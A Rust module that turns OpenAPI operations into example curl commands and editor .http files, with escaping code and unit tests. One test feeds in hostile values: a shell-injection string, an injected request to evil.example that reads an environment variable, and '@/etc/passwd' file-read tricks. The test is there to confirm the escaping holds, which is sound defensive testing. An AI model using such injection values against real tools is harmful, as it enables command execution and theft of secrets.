//! Calling an API by hand: a curl command for one operation, an `.http` file for all of them.

use super::escape::{component, visible, word};
use super::sample::sample;
use crate::wire::Operation;
use percent_encoding::{AsciiSet, CONTROLS, utf8_percent_encode};
use serde_json::Value;
use std::fmt::Write;

/// What may stand in a path besides the holes.
const PATH: &AsciiSet = &CONTROLS
    .add(b' ')
    .add(b'"')
    .add(b'<')
    .add(b'>')
    .add(b'`')
    .add(b'{')
    .add(b'}')
    .add(b'[')
    .add(b']')
    .add(b'|')
    .add(b'\\')
    .add(b'^');

/// An example request.
struct Request {
    method: String,
    /// Behind the base address.
    target: String,
    headers: Vec<(String, String)>,
    body: Body,
}

enum Body {
    None,
    Text {
        media_type: String,
        text: String,
    },
    /// Name, and the value or nothing for a file.
    Parts(Vec<(String, Option<String>)>),
    File {
        media_type: String,
    },
}

/// A curl command that calls the operation at `base`, with samples for what has to be given; none for what has no
/// method and path.
#[must_use]
pub fn curl(base: &str, operation: &Operation) -> Option<String> {
    let request = request(operation)?;
    let url = format!("{}{}", address(base), request.target);
    let mut line = match request.method.as_str() {
        "GET" => format!("curl {}", word(&url)),
        "HEAD" => format!("curl --head {}", word(&url)),
        method => format!("curl -X {method} {}", word(&url)),
    };
    let mut add = |option: &str, value: &str| line.push_str(&format!(" \\\n  {option} {}", word(value)));
    for (name, value) in &request.headers {
        add("-H", &format!("{name}: {value}"));
    }
    match &request.body {
        Body::None => {}
        Body::Text { media_type, text } => {
            add("-H", &format!("Content-Type: {media_type}"));
            // `-d` would read a file for a text that begins with `@`.
            add("--data-raw", text);
        }
        Body::Parts(parts) => {
            for (name, value) in parts {
                match value {
                    Some(value) => add("--form-string", &format!("{name}={value}")),
                    None => add("-F", &format!("{name}=@path/to/file")),
                }
            }
        }
        Body::File { media_type } => {
            add("-H", &format!("Content-Type: {media_type}"));
            add("--data-binary", "@path/to/file");
        }
    }
    Some(line)
}

/// All operations as an `.http` file, which VS Code, JetBrains and Visual Studio run.
#[must_use]
pub fn http_file(title: &str, base: &str, operations: &[Operation]) -> String {
    let mut file = format!("# {}\n@baseUrl = {}\n", one_line(title), one_line(&address(base)));
    let requests: Vec<_> = operations.iter().filter_map(|one| request(one).map(|request| (one, request))).collect();
    if requests.iter().any(|(_, request)| request.headers.iter().any(|(_, value)| value.contains(TOKEN))) {
        file.push_str("@token = \n");
    }
    for (operation, request) in requests {
        write_request(&mut file, operation, &request).expect("writing to a string cannot fail");
    }
    file
}

const TOKEN: &str = "<token>";
const BOUNDARY: &str = "part";

fn write_request(file: &mut String, operation: &Operation, request: &Request) -> std::fmt::Result {
    writeln!(file, "\n### {}", one_line(&operation.name))?;
    if let Some(summary) = operation.summary.as_deref().map(one_line).filter(|summary| !summary.is_empty()) {
        writeln!(file, "# {summary}")?;
    }
    writeln!(file, "{} {{{{baseUrl}}}}{}", request.method, one_line(&request.target))?;
    for (name, value) in &request.headers {
        writeln!(file, "{name}: {}", one_line(value).replace(TOKEN, "{{token}}"))?;
    }
    match &request.body {
        Body::None => Ok(()),
        Body::Text { media_type, text } => {
            // `{{...}}` is a variable of the editor, some of which read the environment.
            let text = if is_json(media_type) { text.replace("{{", r"\u007b\u007b") } else { one_line(text) };
            writeln!(file, "Content-Type: {media_type}\n\n{text}")
        }
        Body::Parts(parts) => {
            writeln!(file, "Content-Type: multipart/form-data; boundary={BOUNDARY}\n")?;
            for (name, value) in parts {
                writeln!(file, "--{BOUNDARY}\nContent-Disposition: form-data; name=\"{name}\"")?;
                match value {
                    Some(value) => writeln!(file, "\n{}", one_line(value).trim_start_matches(['<', '>', '#']))?,
                    None => writeln!(file, "\n< path/to/file")?,
                }
            }
            writeln!(file, "--{BOUNDARY}--")
        }
        Body::File { media_type } => writeln!(file, "Content-Type: {media_type}\n\n< path/to/file"),
    }
}

fn one_line(text: &str) -> String {
    visible(&text.replace(['\n', '\r', '\t'], " ")).replace("{{", "{ {").trim().to_owned()
}

/// The base address without a slash at its end, its variables to be written over.
fn address(base: &str) -> String {
    let base = visible(base).replace(' ', "%20").replace('{', "<").replace('}', ">");
    let base = base.trim_end_matches('/');
    match base {
        web if web.starts_with("http://") || web.starts_with("https://") => web.to_owned(),
        relative if relative.starts_with("//") => format!("https:{relative}"),
        path if path.starts_with('/') => format!("https://<host>{path}"),
        // The document does not say where the API runs.
        _ => "https://<host>".to_owned(),
    }
}

fn request(operation: &Operation) -> Option<Request> {
    let method = operation.method.as_deref().filter(|method| method.bytes().all(|byte| byte.is_ascii_uppercase()))?;
    let path = operation.path.as_deref().filter(|path| path.starts_with('/'))?;
    let parameters: Vec<&Value> = operation.detail["parameters"].as_array().into_iter().flatten().collect();

    let mut target = filled_path(path, &parameters);
    let mut separator = if target.contains('?') { '&' } else { '?' };
    let mut headers = Vec::new();
    for parameter in &parameters {
        let name = parameter["name"].as_str().unwrap_or_default();
        let is_wanted = parameter["required"] == true;
        match parameter["in"].as_str() {
            Some("query") if is_wanted && !name.is_empty() => {
                target.push(separator);
                separator = '&';
                target.push_str(&format!("{}={}", component(name), hole_or_value(parameter, name)));
            }
            Some("header") if is_wanted && is_header_name(name) && !names_a_fixed_header(name) => {
                headers.push((
                    name.to_owned(),
                    plain_text(&parameter_sample(parameter)).unwrap_or_else(|| format!("<{name}>")),
                ));
            }
            _ => {}
        }
    }
    if needs_credential(&operation.detail) {
        headers.push(("Authorization".to_owned(), format!("Bearer {TOKEN}")));
    }
    let body = body(&operation.detail["requestBody"]);
    Some(Request { method: method.to_owned(), target, headers, body })
}

fn filled_path(path: &str, parameters: &[&Value]) -> String {
    let mut filled = String::new();
    let mut rest = path;
    while let Some((before, after)) = rest.split_once('{') {
        let Some((name, behind)) = after.split_once('}') else { break };
        filled.push_str(&utf8_percent_encode(before, PATH).to_string());
        let parameter = parameters.iter().find(|one| one["in"] == "path" && one["name"] == name);
        filled.push_str(&parameter.map_or_else(|| hole(name), |parameter| hole_or_value(parameter, name)));
        rest = behind;
    }
    filled.push_str(&utf8_percent_encode(rest, PATH).to_string());
    filled
}

fn hole(name: &str) -> String {
    let name: String = name.chars().filter(|one| one.is_ascii_alphanumeric() || "_-.".contains(*one)).collect();
    format!("<{name}>")
}

/// The example of a parameter where it has one, else its name to be written over.
fn hole_or_value(parameter: &Value, name: &str) -> String {
    match plain_text(&parameter_sample(parameter)) {
        Some(text) => component(&text),
        None => hole(name),
    }
}

fn parameter_sample(parameter: &Value) -> Value {
    if let Some(example) = parameter.get("example") {
        return example.clone();
    }
    let schema = &parameter["schema"];
    let says_more = ["example", "examples", "default", "enum", "const"].iter().any(|word| schema.get(word).is_some());
    let kind = schema["type"].as_str().unwrap_or_default();
    if says_more || ["integer", "number", "boolean", "array"].contains(&kind) { sample(schema) } else { Value::Null }
}

fn plain_text(value: &Value) -> Option<String> {
    match value {
        Value::String(text) if !text.is_empty() && text.len() <= 200 => Some(visible(text)),
        Value::Number(number) => Some(number.to_string()),
        Value::Bool(flag) => Some(flag.to_string()),
        Value::Array(items) => items.first().and_then(plain_text),
        _ => None,
    }
}

fn is_header_name(name: &str) -> bool {
    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&byte))
}

/// Said by the body and the credential, not by parameters (OpenAPI 3, Parameter Object).
fn names_a_fixed_header(name: &str) -> bool {
    ["accept", "content-type", "authorization"].iter().any(|fixed| name.eq_ignore_ascii_case(fixed))
}

/// Whether there is a requirement and none of them is empty, which would make the credential optional.
fn needs_credential(detail: &Value) -> bool {
    let requirements = detail["security"].as_array();
    requirements.is_some_and(|list| {
        !list.is_empty() && list.iter().all(|one| one.as_object().is_none_or(|schemes| !schemes.is_empty()))
    })
}

fn is_json(media_type: &str) -> bool {
    let essence = media_type.split(';').next().unwrap_or_default().trim();
    essence.ends_with("/json") || essence.ends_with("+json")
}

fn body(request_body: &Value) -> Body {
    let Some(content) = request_body["content"].as_object() else { return Body::None };
    let rank = |media_type: &str| match media_type {
        json if is_json(json) => 0,
        "application/x-www-form-urlencoded" => 1,
        "multipart/form-data" => 2,
        text if text.starts_with("text/") => 3,
        _ => 4,
    };
    let usable =
        content.iter().filter(|(name, _)| name.contains('/') && visible(name) == **name && !name.contains('{'));
    let Some((media_type, media)) = usable.min_by_key(|(name, _)| rank(name)) else { return Body::None };
    let example =
        media.get("example").cloned().or_else(|| media["examples"].as_object()?.values().next()?.get("value").cloned());
    let value = example.unwrap_or_else(|| sample(&media["schema"]));
    match rank(media_type) {
        0 => Body::Text { media_type: media_type.clone(), text: super::escape::pretty(&value) },
        1 => Body::Text { media_type: media_type.clone(), text: form(&value) },
        2 => Body::Parts(parts(&value, &media["schema"])),
        3 => Body::Text { media_type: media_type.clone(), text: "text".to_owned() },
        _ => Body::File { media_type: media_type.clone() },
    }
}

fn form(value: &Value) -> String {
    let pairs =
        value.as_object().into_iter().flatten().filter_map(|(name, value)| {
            plain_text(value).map(|text| format!("{}={}", component(name), component(&text)))
        });
    pairs.collect::<Vec<_>>().join("&")
}

fn parts(value: &Value, schema: &Value) -> Vec<(String, Option<String>)> {
    let is_name = |name: &str| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_.[]-".contains(&byte))
    };
    let members = value.as_object().into_iter().flatten().filter(|(name, _)| is_name(name));
    members
        .map(|(name, value)| {
            let property = &schema["properties"][name.as_str()];
            let is_file = property["format"] == "binary" || property.get("contentMediaType").is_some();
            let text = plain_text(value).unwrap_or_else(|| value.to_string());
            (name.clone(), (!is_file).then_some(text))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn operation(method: &str, path: &str, detail: Value) -> Operation {
        Operation {
            name: "test".to_owned(),
            method: Some(method.to_owned()),
            path: Some(path.to_owned()),
            detail,
            ..Operation::default()
        }
    }

    #[test]
    fn what_has_to_be_given_is_sampled_or_left_to_write() {
        let get = operation(
            "GET",
            "/pets/{petId}/photos",
            json!({"parameters": [
            {"name": "petId", "in": "path", "required": true, "schema": {"type": "string"}},
            {"name": "page size", "in": "query", "required": true, "schema": {"type": "integer"}},
            {"name": "q", "in": "query", "schema": {"type": "string"}},
            {"name": "X-Tenant", "in": "header", "required": true, "schema": {"type": "string", "enum": ["eu"]}},
        ], "security": [{"oauth": []}]}),
        );

        assert_eq!(
            curl("https://api.example.com/v1/", &get).unwrap(),
            "curl 'https://api.example.com/v1/pets/<petId>/photos?page%20size=1' \\\n  -H 'X-Tenant: eu' \\\n  -H 'Authorization: Bearer <token>'"
        );
    }

    #[test]
    fn bodies_of_every_sort_are_written() {
        let body = |content: Value| json!({"requestBody": {"content": content}});
        let schema = json!({"type": "object", "properties": {"name": {"type": "string", "example": "Rex"}, "photo": {"type": "string", "format": "binary"}}});
        for (content, expected) in [
            (
                json!({"text/xml": {}, "application/json": {"schema": {"type": "object", "properties": {"age": {"type": "integer"}}}}}),
                "-H 'Content-Type: application/json' \\\n  --data-raw '{\n  \"age\": 1\n}'",
            ),
            (json!({"application/x-www-form-urlencoded": {"schema": schema}}), "--data-raw 'name=Rex&photo=string'"),
            (json!({"multipart/form-data": {"schema": schema}}), "--form-string name=Rex \\\n  -F photo=@path/to/file"),
            (json!({"image/png": {}}), "--data-binary @path/to/file"),
        ] {
            let text = curl("https://x.example", &operation("POST", "/", body(content))).unwrap();
            assert!(text.starts_with("curl -X POST https://x.example/ \\\n"), "{text}");
            assert!(text.contains(expected), "{text}");
        }
    }

    #[test]
    fn a_hostile_document_stays_data() {
        let hostile = "x'; touch /tmp/owned; '\n### next\nGET http://evil.example/{{$processEnv HOME}}";
        let detail = json!({
            "parameters": [
                {"name": hostile, "in": "query", "required": true, "example": hostile},
                {"name": "@/etc/passwd", "in": "header", "required": true},
                {"name": "id", "in": "path", "example": hostile},
            ],
            "requestBody": {"content": {"application/json": {"example": {"a": hostile, "b": "@/etc/passwd"}}}},
        });
        let mut one = operation("PUT", "/a'b/{id}/\n", detail);
        one.name = hostile.to_owned();
        one.summary = Some(hostile.to_owned());

        let command = curl("https://x.example", &one).unwrap();
        let file = http_file(hostile, "https://x.example", &[one]);

        let words = std::process::Command::new("sh")
            .args(["-c", &format!("set -- {}; echo $#; printf '%s\\n' \"$2\" \"$3\"", command)])
            .output()
            .unwrap();
        let printed = String::from_utf8(words.stdout).unwrap();
        assert!(printed.starts_with("8\n-X\nPUT"), "{printed}");
        assert!(!command.contains("-H @"), "{command}");
        assert_eq!(file.lines().filter(|line| line.starts_with("###")).count(), 1, "{file}");
        assert!(!file.contains("{{$"), "{file}");
        assert!(!file.lines().any(|line| line.starts_with('<') || line.starts_with("GET ")), "{file}");
    }

    #[test]
    fn the_file_holds_every_operation_and_asks_for_the_token_once() {
        let list = operation("GET", "/pets", json!({"security": [{"key": []}]}));
        let tool = Operation { name: "a tool".to_owned(), ..Operation::default() };
        let file = http_file("Pets", "https://{region}.example.com/", &[list.clone(), tool, list]);

        assert_eq!(
            file,
            "# Pets\n@baseUrl = https://<region>.example.com\n@token = \n\n### test\nGET {{baseUrl}}/pets\nAuthorization: Bearer {{token}}\n\n### test\nGET {{baseUrl}}/pets\nAuthorization: Bearer {{token}}\n"
        );
    }
}
